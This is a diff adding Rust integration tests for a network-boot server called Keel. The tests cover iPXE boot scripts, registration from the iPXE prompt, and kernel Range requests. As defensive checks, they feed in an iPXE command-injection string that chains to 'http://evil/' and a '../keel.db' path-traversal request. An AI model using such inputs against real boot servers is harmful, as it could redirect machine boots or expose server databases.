@@ -1,0 +1,153 @@
+//! Network boot over real HTTP (curl): the iPXE script of each kind of machine, registration from
+//! the iPXE prompt, the switch table, and kernels with Range requests.
+
+use std::process::Command;
+
+use reqwest::Method;
+use serde_json::{json, Value};
+
+use crate::support::Keel;
+
+fn curl(args: &[&str]) -> (String, String) {
+    let out = Command::new("curl")
+        .args(["-sS", "-D", "-"])
+        .args(args)
+        .output()
+        .expect("curl");
+    let text = String::from_utf8_lossy(&out.stdout).into_owned();
+    let (head, body) = text.split_once("\r\n\r\n").unwrap_or((&text, ""));
+    (head.to_owned(), body.to_owned())
+}
+
+fn boot(k: &Keel, mac: &str) -> String {
+    curl(&[&format!("{}/boot/{mac}", k.url)]).1
+}
+
+async fn add(k: &Keel, body: Value) -> Value {
+    k.admin()
+        .call(Method::POST, "/api/v1/machines", Some(&body), None)
+        .await
+        .unwrap()
+        .value
+}
+
+#[tokio::test]
+async fn each_machine_gets_the_script_of_its_state_and_boot_mode() {
+    let k = Keel::start(&["--example-site"]);
+    // The example's user machines boot rfs1, which is gw (192.168.1.254).
+    let s = boot(&k, "52:54:00:00:00:01");
+    assert!(s.starts_with("#!ipxe"), "{s}");
+    assert!(s.contains("nfsroot=192.168.1.254:/export/nfsroot"), "{s}");
+    assert!(
+        s.contains("/boot/files/rfs1/vmlinuz") && s.contains("/boot/files/rfs1/initrd.img"),
+        "{s}"
+    );
+    // rfs10 is another machine: rfs1 must not match it (the original matched by substring).
+    add(
+        &k,
+        json!({"hostname": "srv10", "mac": "52:54:00:00:03:10", "mtype": "service", "aliases": ["rfs10"]}),
+    )
+    .await;
+    let m10 = add(
+        &k,
+        json!({"hostname": "r09p01", "mac": "52:54:00:00:09:01", "mtype": "user", "rfs": 10}),
+    )
+    .await;
+    let s10 = boot(&k, "52-54-00-00-09-01");
+    let rfs10_ip = k.admin().get::<Value>("/api/v1/machines/srv10").await.unwrap()["ip"]
+        .as_str()
+        .unwrap()
+        .to_owned();
+    assert!(s10.contains(&format!("nfsroot={rfs10_ip}:")), "{s10}");
+    assert!(
+        boot(&k, "52:54:00:00:00:01").contains("nfsroot=192.168.1.254:"),
+        "rfs1 is still gw"
+    );
+    assert_eq!(m10["rfs"], 10);
+    // Other types boot their disk; install mode runs the site's installer lines.
+    assert!(
+        boot(&k, "52:54:00:00:02:01").contains("sanboot"),
+        "orga01 boots locally"
+    );
+    k.admin()
+        .edit::<Value>(
+            Method::PATCH,
+            "/api/v1/machines/orga01",
+            Some(&json!({"boot": "install"})),
+        )
+        .await
+        .unwrap();
+    assert!(boot(&k, "52:54:00:00:02:01").contains("No installer is configured"));
+    // A faulty machine shows its reason — and nothing of it can become an iPXE command.
+    k.admin()
+        .edit::<Value>(
+            Method::PATCH,
+            "/api/v1/machines/r00p02",
+            Some(&json!({"is_faulty": true, "faulty_reason": "broken fan ${net0/ip} || chain http://evil/"})),
+        )
+        .await
+        .unwrap();
+    let f = boot(&k, "52:54:00:00:00:02");
+    assert!(f.contains("FAULTY") && f.contains("broken fan"), "{f}");
+    assert!(!f.contains("${net0/ip}"), "no iPXE expansion from data: {f}");
+    assert!(f.lines().all(|l| !l.starts_with("chain http://evil")), "{f}");
+    // The switch table.
+    let (_, sw) = curl(&[&format!("{}/bootstrap", k.url)]);
+    let sw: Value = serde_json::from_str(&sw).unwrap();
+    assert_eq!(sw.as_array().unwrap().len(), 2);
+}
+
+#[tokio::test]
+async fn an_unknown_machine_registers_from_the_ipxe_prompt() {
+    let k = Keel::start(&["--example-site"]);
+    let mac = "52:54:00:aa:bb:cc";
+    assert!(boot(&k, mac).contains("not registered, and registration is closed"));
+    let out = k.cli(&["setting", "set", "allow_self_registration", "true"]);
+    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
+    let form = boot(&k, mac);
+    assert!(
+        form.contains("read hostname") && form.contains("/register?mac=52:54:00:aa:bb:cc"),
+        "{form}"
+    );
+    // What iPXE sends after the questions: a bad answer is explained in words.
+    let (_, bad) = curl(&[&format!(
+        "{}/register?mac={mac}&hostname=Bad_Name!&room=alt&rfs=1&hfs=1&mtype=user",
+        k.url
+    )]);
+    assert!(bad.contains("refused") && bad.contains("hostname"), "{bad}");
+    let (_, ok) = curl(&[&format!(
+        "{}/register?mac={mac}&hostname=r05p05&room=alt&rfs=1&hfs=1&mtype=user",
+        k.url
+    )]);
+    assert!(
+        ok.contains("registered r05p05") && ok.contains(&format!("/boot/{mac}")),
+        "{ok}"
+    );
+    assert!(boot(&k, mac).contains("hostname=r05p05"), "now it boots");
+    let m: Value = k.admin().get("/api/v1/machines/r05p05").await.unwrap();
+    assert_eq!(m["room"], "alt");
+}
+
+#[tokio::test]
+async fn kernels_are_served_with_range_requests() {
+    let k = Keel::start(&[]);
+    let dir = k.data().join("boot/rfs1");
+    std::fs::create_dir_all(&dir).unwrap();
+    let kernel: Vec<u8> = (0..10_000u32).map(|i| (i % 251) as u8).collect();
+    std::fs::write(dir.join("vmlinuz"), &kernel).unwrap();
+    let part = k.dir.path().join("part");
+    let (head, _) = curl(&[
+        "-r",
+        "100-199",
+        "-o",
+        part.to_str().unwrap(),
+        &format!("{}/boot/files/rfs1/vmlinuz", k.url),
+    ]);
+    assert!(head.starts_with("HTTP/1.1 206"), "{head}");
+    assert_eq!(std::fs::read(&part).unwrap(), &kernel[100..200]);
+    let (head, _) = curl(&[&format!("{}/boot/files/../keel.db", k.url), "--path-as-is"]);
+    assert!(
+        head.starts_with("HTTP/1.1 404") || head.starts_with("HTTP/1.1 400"),
+        "{head}"
+    );
+}
